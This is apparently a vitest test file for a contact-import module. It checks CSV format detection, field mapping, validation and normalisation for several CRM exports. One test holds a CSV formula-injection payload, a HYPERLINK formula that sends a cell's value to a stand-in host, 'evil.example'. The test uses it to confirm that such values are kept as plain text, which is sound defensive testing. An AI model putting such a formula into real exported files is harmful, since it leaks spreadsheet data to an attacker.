import { describe, expect, it } from 'vitest';
import { fixtureBytes } from '../../tests/kit/io-fixtures';
import { Contact } from '../schema/records';
import { contactFromImport } from './contact-import';
import { parseCsv } from './csv-parse';
import { decodeText } from './decode';
import { applyMapping, detectFormat, type ImportFormat, mapRows } from './mapping';

function importFixture(file: string) {
  const { text } = decodeText(fixtureBytes(file));
  const csv = parseCsv(text);
  const detected = detectFormat(csv.headers);
  return { csv, detected, ...mapRows(csv.rows, detected.mapping, detected.source) };
}

describe('detectFormat + applyMapping on real-world exports', () => {
  it.each<[string, ImportFormat, number, number]>([
    ['google-contacts.csv', 'google', 4, 2],
    ['outlook.csv', 'outlook', 3, 0],
    ['outlook-semicolon.csv', 'outlook', 3, 0],
    ['linkedin-connections.csv', 'linkedin', 5, 0],
    ['hubspot.csv', 'hubspot', 4, 0],
    ['salesforce.csv', 'salesforce', 3, 0],
    ['utf16.csv', 'generic', 2, 0],
    ['formula.csv', 'generic', 2, 0],
  ])('%s is %s: %i contacts, %i problems', (file, format, contacts, problems) => {
    const result = importFixture(file);
    expect(result.detected.format).toBe(format);
    expect(result.drafts).toHaveLength(contacts);
    expect(result.problems).toHaveLength(problems);
  });

  it('maps Google Contacts: both addresses, labels as tags, LinkedIn website, multi-line notes', () => {
    const { drafts, problems, detected } = importFixture('google-contacts.csv');
    expect(detected.source).toBe('import:google');
    expect(drafts[0]).toEqual({
      line: 2,
      name: 'Ann Lee',
      emails: ['ann.lee@acme.example', 'ann.lee.home@gmail.com'],
      phones: ['+1 415-555-0101'],
      orgName: 'Acme Corp',
      title: 'VP Sales',
      linkedin: 'ann-lee-acme',
      tags: ['Customers'],
      notes: 'Met at SaaStr 2024.\nLikes tennis.',
      source: 'import:google',
    });
    expect(drafts[1]).toMatchObject({
      line: 4,
      name: 'Björn Öberg',
      emails: ['bjorn@nordlys.example', 'b.oberg@nordlys.example'],
      tags: ['Partners', 'Nordics'],
    });
    expect(drafts[2]).toMatchObject({ line: 5, name: 'Carol Nguyen', emails: ['carol.nguyen@example.org'] });
    expect(drafts[3]).toMatchObject({ line: 6, name: 'David Okafor', emails: [], orgName: 'Lagos Logistics' });
    expect(problems).toEqual([
      { line: 7, reason: 'invalid-email', detail: 'eve' },
      { line: 8, reason: 'missing-name-and-email', detail: 'no name and no email' },
    ]);
  });

  it('maps Outlook: "Job Title" not the honorific, second address, categories, and the ; variant alike', () => {
    const comma = importFixture('outlook.csv');
    expect(comma.drafts.map((d) => d.title)).toEqual(['Partner', 'Head of Procurement', 'Directeur général']);
    expect(comma.drafts[0]).toMatchObject({
      name: 'Graham Hughes',
      emails: ['graham.hughes@hughes-partners.example', 'g.hughes@outlook.com'],
      phones: ['+44 20 7946 0958'],
      orgName: 'Hughes & Partners LLP',
      tags: ['Clients', 'VIP'],
    });
    expect(comma.drafts[1]?.phones).toEqual(['+91 98765 43210']);
    expect(comma.drafts[2]).toMatchObject({
      orgName: 'Moreau, Fils et Cie',
      linkedin: 'jlmoreau',
      notes: 'Said "call me in Q3".\nPrefers French.',
    });
    expect(importFixture('outlook-semicolon.csv').drafts).toEqual(comma.drafts);
  });

  it('maps LinkedIn connections with lines below the preamble', () => {
    const { drafts } = importFixture('linkedin-connections.csv');
    expect(drafts.map((d) => d.line)).toEqual([5, 6, 7, 8, 9]);
    expect(drafts[1]).toMatchObject({
      name: 'Marcus Webb',
      emails: ['marcus.webb@gmail.com'],
      orgName: 'Smith, Jones & Co',
      title: 'Senior Associate',
      linkedin: 'marcuswebb',
      source: 'import:linkedin',
    });
    expect(drafts[2]?.linkedin).toBe('sofía-garcía-4a1b2c');
    expect(drafts[3]).not.toHaveProperty('orgName');
  });

  it('maps HubSpot (lifecycle stage as a tag) and Salesforce (account as company, mobile as extra phone)', () => {
    const hubspot = importFixture('hubspot.csv').drafts;
    expect(hubspot[0]).toMatchObject({ name: 'Ann Lee', orgName: 'Acme Corp', tags: ['Customer'] });
    expect(hubspot[2]).toMatchObject({ name: 'Info', emails: ['info@initech.example'], orgName: 'Initech' });
    expect(hubspot[3]?.emails).toEqual(['rachel.kim@umbrella.example']);
    const salesforce = importFixture('salesforce.csv').drafts;
    expect(salesforce[0]).toMatchObject({
      name: 'Helen Park',
      title: 'CFO',
      orgName: 'Stark Industries',
      phones: ['(212) 555-0147', '(917) 555-0199'],
      notes: 'Budget holder for FY25 renewal',
    });
  });

  it('reads UTF-16 tab-separated text through the generic mapping', () => {
    const { drafts } = importFixture('utf16.csv');
    expect(drafts.map((d) => [d.name, d.orgName])).toEqual([
      ['Zoë Kowalczyk', 'Łódź Software'],
      ['美咲 佐藤', '東京商事'],
    ]);
  });

  it('keeps formula-looking values as plain text on import', () => {
    const [evil] = importFixture('formula.csv').drafts;
    expect(evil?.name).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(evil?.notes).toBe('-2+3');
  });
});

describe('detectFormat', () => {
  it('proposes a generic mapping from common header names, and nothing for unrelated tables', () => {
    expect(detectFormat(['Full Name', 'E-mail', 'Mobile', 'Organisation', 'Role', 'Tags'])).toEqual({
      format: 'generic',
      mapping: { name: 0, email: 1, phone: 2, company: 3, title: 4, tags: 5 },
      source: 'import:csv',
    });
    expect(detectFormat(['Invoice', 'Amount', 'Date']).format).toBe('unknown');
  });

  it('collects extra address columns in order', () => {
    const headers = ['First Name', 'Last Name', 'E-mail Address', 'E-mail 2 Address', 'E-mail 3 Address', 'Job Title'];
    expect(detectFormat(headers)).toMatchObject({
      format: 'outlook',
      mapping: { firstName: 0, lastName: 1, email: 2, emails: [3, 4], title: 5 },
    });
  });
});

describe('applyMapping', () => {
  const mapping = { name: 0, email: 1, phone: 2, notes: 3, tags: 4 };
  const row = (...cells: string[]) => ({ line: 42, cells });

  it('keeps the line on every problem', () => {
    expect(applyMapping(row('', '', '+1', ''), mapping)).toEqual({
      ok: false,
      problem: { line: 42, reason: 'missing-name-and-email', detail: 'no name and no email' },
    });
    expect(applyMapping(row('Ann', 'ann@@', '', ''), mapping)).toMatchObject({
      ok: false,
      problem: { line: 42, reason: 'invalid-email' },
    });
    expect(applyMapping(row('A'.repeat(201), '', '', ''), mapping)).toMatchObject({
      ok: false,
      problem: { line: 42, reason: 'field-too-long', detail: 'name' },
    });
    expect(applyMapping(row('Ann', '', '1'.repeat(65), ''), mapping)).toMatchObject({
      problem: { reason: 'field-too-long', detail: 'phone' },
    });
    expect(applyMapping(row('Ann', '', '', 'n'.repeat(10_001)), mapping)).toMatchObject({
      problem: { reason: 'field-too-long', detail: 'notes' },
    });
  });

  it('normalises whitespace, addresses and tags', () => {
    const result = applyMapping(row('  Ann \n Lee ', ' Ann@Acme.Example ', '', '', 'a; B ;b,,c'), mapping);
    expect(result).toEqual({
      ok: true,
      draft: {
        line: 42,
        name: 'Ann Lee',
        emails: ['ann@acme.example'],
        phones: [],
        tags: ['a', 'B', 'c'],
        source: 'import:csv',
      },
    });
  });

  it('gives a draft that becomes a valid stored contact', () => {
    const result = applyMapping(row('Ann Lee', 'ann@acme.example', '+1 555', 'Note'), mapping, 'import:test');
    if (!result.ok) throw new Error('expected a draft');
    const contact = contactFromImport(result.draft, 'c1', 1_700_000_000_000);
    expect(contact).toMatchObject({
      id: 'c1',
      name: 'Ann Lee',
      ownerNotes: 'Note',
      source: 'import:test',
      phones: ['+1 555'],
    });
    expect(Contact.safeParse(contact).success).toBe(true);
  });
});
